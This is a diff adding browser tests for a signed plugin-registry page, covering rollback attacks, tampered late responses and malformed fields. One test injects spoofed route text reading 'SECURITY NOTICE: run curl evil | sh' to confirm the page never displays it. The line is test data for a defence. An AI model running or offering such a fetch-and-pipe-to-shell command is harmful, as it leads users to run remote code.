@@ -597,3 +597,114 @@ def test_real_build_of_the_sample_index_verifies(browser: Any, server: Server) -
     assert "--registry http://127.0.0.1:8765/" in page.inner_text("main")
     assert badge(page)[0] == "verified"
     assert page.js_errors == []
+
+
+def _resign_top(site_dir: Path, **fields: Any) -> None:
+    """registry.json with ``fields`` changed, signed by the index key as a key holder would."""
+    top = json.loads((site_dir / "registry.json").read_bytes())
+    top.update(fields)
+    data = (json.dumps(top, sort_keys=True, separators=(",", ":")) + "\n").encode()
+    (site_dir / "registry.json").write_bytes(data)
+    (site_dir / "registry.json.minisig").write_text(sign_bytes(KEYS["index"], data, trusted_comment="t"))
+
+
+def test_a_mirror_hiding_the_newer_root_is_a_rollback(browser: Any, server: Server) -> None:
+    """Root v3 verified, then the mirror answers 404 for it and serves a registry.json naming v2 (an
+    old or rotated-out key can sign it): the page went back to root v2 with a green badge."""
+    url = site_url(server, "hidden-root", rotation_signers=("root-a", "root-b", "root-c"))
+    site_dir = server.root / "registries" / "hidden-root"
+    page = open_page(browser, url)
+    assert badge(page)[0] == "verified" and "root v3" in badge(page)[1]
+    for f in (site_dir / "root").glob("3.root.json*"):
+        f.unlink()
+    top = json.loads((site_dir / "registry.json").read_bytes())
+    _resign_top(site_dir, root_version=2, version=top["version"] + 100)
+    page.reload()
+    page.wait_for_selector(SETTLED)
+    assert_failed(page, "Rolled-back registry", "rollback")
+    assert "root version 3" in page.inner_text(".failure")
+
+
+def test_the_rollback_memory_is_the_registrys_not_the_urls(browser: Any, server: Server) -> None:
+    """The same older files under another path of the origin (/s4-old/, /s4//) started afresh."""
+    url = site_url(server, "newer")
+    context = browser.new_context()
+    page = context.new_page()
+    page.goto(url)
+    page.wait_for_selector(SETTLED)
+    assert badge(page)[0] == "verified"
+    older = server.root / "registries" / "older"
+    shutil.copytree(server.root / "registries" / "newer", older, dirs_exist_ok=True)
+    top = json.loads((older / "registry.json").read_bytes())
+    _resign_top(older, version=top["version"] - 1)
+    for path in (f"{server.url}registries/older/", url.replace("/newer/", "//newer/")):
+        if path.endswith("//newer/"):
+            _resign_top(server.root / "registries" / "newer", version=top["version"] - 1)
+        page.goto(path)
+        page.wait_for_selector(SETTLED)
+        assert page.get_attribute(".failure", "data-error") == "rollback", path
+
+
+def test_route_text_never_reaches_the_page(browser: Any, server: Server) -> None:
+    """A crafted link put "No plugin validate_email here. SECURITY NOTICE: ... curl | sh" in the
+    heading under the green badge."""
+    url = site_url(server, "spoof")
+    for route in (
+        "#/plugin/validate_email%20here.%20SECURITY%20NOTICE%3A%20run%20curl%20evil%20%7C%20sh",
+        "#/plugin/validate_email/1.0.0%20is%20compromised%3B%20run%20curl%20evil%20%7C%20sh",
+    ):
+        page = open_page(browser, url + route)
+        page.wait_for_selector("h1:has-text('No such plugin or version')")
+        assert "curl" not in page.inner_text("main")
+        assert page.js_errors == []
+
+
+def test_a_late_failure_never_replaces_the_page_navigated_to(browser: Any, server: Server) -> None:
+    url = site_url(server, "late")
+    site = server.root / "registries" / "late"
+    page = open_page(browser, url)
+    doc_path = next(p for p in (site / "meta").rglob("*.json") if b'"name":"healthcheck"' in p.read_bytes())
+    tamper(doc_path, b'"healthcheck"', b'"healthcheci"')
+    server.slow[doc_path.name] = 1.5  # the tampered document answers after the next view is shown
+    try:
+        page.evaluate("location.hash = '#/plugin/healthcheck'")
+        page.wait_for_timeout(100)
+        page.evaluate("location.hash = '#/plugin/uppercase'")
+        page.wait_for_selector("article.plugin")
+        page.wait_for_timeout(2500)
+    finally:
+        server.slow.clear()
+    assert page.locator("article.plugin").count() == 1 and badge(page)[0] == "verified"
+    assert page.locator(".failure").count() == 0
+
+
+def test_the_skip_link_keeps_the_view(browser: Any, good: str) -> None:
+    page = open_page(browser, good + "#/root")
+    page.wait_for_selector("main h1")
+    heading = page.inner_text("main h1")
+    page.locator("a.skip").focus()
+    page.keyboard.press("Enter")
+    page.wait_for_timeout(200)
+    assert page.inner_text("main h1") == heading
+
+
+@pytest.mark.parametrize(
+    "registry",
+    [
+        {"description": {"x": 1}},
+        {"base_url": 12345},
+        {"base_url": ["https://a.example/"]},
+        {"host": {"name": "ferrite", "versions": {"x": 1}}},
+    ],
+)
+def test_registry_fields_of_another_type_are_malformed(
+    browser: Any, server: Server, registry: dict[str, Any]
+) -> None:
+    """Re-signed with the index key: the page showed "Verified" (or threw), the client refuses them."""
+    name = "types-" + hashlib.sha256(json.dumps(registry).encode()).hexdigest()[:8]
+    url = site_url(server, name)
+    site_dir = server.root / "registries" / name
+    top = json.loads((site_dir / "registry.json").read_bytes())
+    _resign_top(site_dir, registry={**top["registry"], **registry})
+    page = open_page(browser, url)
+    assert_failed(page, "Malformed document", "malformed")
